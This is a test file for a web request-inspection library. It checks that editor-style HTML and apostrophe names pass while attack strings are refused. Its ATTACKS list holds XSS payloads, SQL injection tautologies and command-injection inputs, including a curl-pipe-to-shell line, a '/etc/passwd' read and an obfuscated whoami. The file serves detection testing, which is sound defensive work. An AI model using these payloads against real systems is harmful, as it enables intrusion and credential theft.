# ruff: noqa: E501  (texts as editors write them)
"""Rich text as editors save it, tags that a text shows, and names with apostrophes."""

from __future__ import annotations

import sqlite3
from contextlib import closing

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from guard_wsgi.detection import Inspection
from guard_wsgi.detection.relaxations.elisions import without_elisions
from guard_wsgi.detection.relaxations.plain_tags import without_plain_quotes
from tests.detection.requests import findings_in

RICH_TEXTS = """
<td class="num">(12)</td>
<td align="right" style="width: 12.5%;">(1,234.50)</td>
<span class="x">(empty)</span>
<span class='x'>(empty)</span>
<a href="https://x.example.com/">(more)</a>
<a class="btn btn-primary" href="https://shop.example.com/p/1?utm_source=mail&amp;utm_medium=x">(Buy now)</a>
<a href="/wiki/Foo" title="Foo bar">(Foo)</a>
<a href='#'>Havola</a><br /><a href='#'>matni</a>
<p style="color:#333">(see below)</p>
<p style="color: rgb(0, 0, 0); font-family: 'Calibri', sans-serif;">(see below)</p>
<div dir="ltr">(see <a href="https://x">(here)</a>)</div>
<li data-list="bullet">(optional) Bring a coat</li>
<img src="https://cdn.example.com/a.jpg" alt="photo"> (from above)
<p>(more)</p>
<p>(see below) and (b)</p>
<h2 id="x-y">(it's)</h2>
<label for="a">(12)</label>
<span data-mention="@bob" class="m">(empty)</span>
<pre class="ql-syntax" spellcheck="false">(more)</pre>
<math><mi>x</mi><mo>=</mo><mn>2</mn></math>
<code>&lt;math&gt;</code>
<code>&lt;video&gt;</code> and <code>&lt;audio&gt;</code>
use the &lt;script&gt; tag
<p>&lt;iframe&gt; is blocked</p>
""".strip().splitlines()

NAMES = """
L'Oréal & L'Occitane
d'Or & d'Argent
D'OR & D'ARGENT
L'Or/L'Argent
L'Or - L'Argent
Cote d'Or | Cote d'Azur
Kids' & Mens'
Ma'or & Ma'ale
5' & 6'
5'/6'
""".strip().splitlines()


@pytest.mark.parametrize("place", ["query", "form", "json", "multipart"])
@pytest.mark.parametrize("text", [*RICH_TEXTS, *NAMES])
def test_rich_text_and_names_pass(inspection: Inspection, place: str, text: str) -> None:
    assert not findings_in(inspection, place, text)


ATTACKS = """
<p class="x" onclick="alert(1)">(more)</p>
<a href="javascript:alert(1)">(more)</a>
<a href="data:text/html,<script>alert(1)</script>">(more)</a>
<p class="x"><script>alert(1)</script></p>
<p style="background:url(javascript:alert(1))">(x)</p>
<p style="x:expression(alert(1))">(x)</p>
<p class="or 1=1">x</p>
<b class="x">(curl e.example|sh)</b>
<b class="x">(id)</b>; id
<b>(id)</b> | id
<p>(x);cat /etc/passwd</p>
<b class="x">(id)</b> $(id)
" or 1=1 or "<a href="#">
x" or "1<a href="#">
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math><mi>' or 1=1--</mi></math>
&lt;math&gt;&lt;img src=x onerror=alert(1)&gt;
&lt;script&gt;alert(1)&lt;/script&gt;
x' or 1 or bool't
x' or 1=1 or d'b
d'or'1'='1
a'&'b
'-'
'/'
5'/0 or '1
n' or 1 or n'x
x' or 1 or 'a'
|w'h'o'am'i
x | w'h'o'am'i
""".strip().splitlines()


@pytest.mark.parametrize("place", ["query", "form", "json"])
@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_in_the_same_shape_is_refused(
    inspection: Inspection, place: str, text: str
) -> None:
    assert findings_in(inspection, place, text)


STATEMENTS = (
    "select a from t where b='{}'",
    "select a from t where b='{}' and c='x'",
    "select a from t where b in ('{}')",
    "select a from t where b like '%{}%'",
    "insert into t(a) values('{}')",
)
PIECES = (
    *("'", " ", "or", "and", "not", "in", "is", "like", "between", "collate", "glob", "union", "x"),
    *("select", "from", "where", "as", "limit", "order by", "isnull", "1", "2", "a", "b", "t", "l"),
    *("d", "o", "&", "|", "/", "+", "-", ",", ".", "l'", "d'", "kids'"),
)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.lists(st.sampled_from(PIECES), min_size=2, max_size=12))
@example(["x", "'", " ", "or", "'", "a"])
@example(["l", "'", " ", "and", "'", "x"])
@example(["b", "'", " ", "like", "'", "l"])
def test_a_database_runs_no_name_whose_apostrophes_are_read_away(pieces: list[str]) -> None:
    text = "".join(pieces)
    if without_elisions(text) == text:
        return
    with closing(sqlite3.connect(":memory:")) as database:
        database.execute("create table t(a, b, c)")
        for statement in STATEMENTS:
            with pytest.raises(sqlite3.Error):
                database.execute(statement.format(text))


@pytest.mark.parametrize(
    "text",
    [
        '<p class="or 1=1">',
        '<p class="-- x">',
        '<a href="javascript:alert(1)">',
        '<a href="//e.example/x">',
        '<p style="x: expression(alert(1))">',
        '<p onclick="x">',
        '<p class="x" data="y">',
    ],
)
def test_quotes_stay_around_what_is_not_plain(text: str) -> None:
    assert without_plain_quotes(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "x' or bool't",
        "a' or n'x",
        "a'/*'b",
        "a'--'b",
        "a'='b",
        "x' or 'a",
        "x' or'a",
        "l' and'x",
        "b' like'l",
    ],
)
def test_apostrophes_stay_where_a_string_may_follow(text: str) -> None:
    assert without_elisions(text) == text
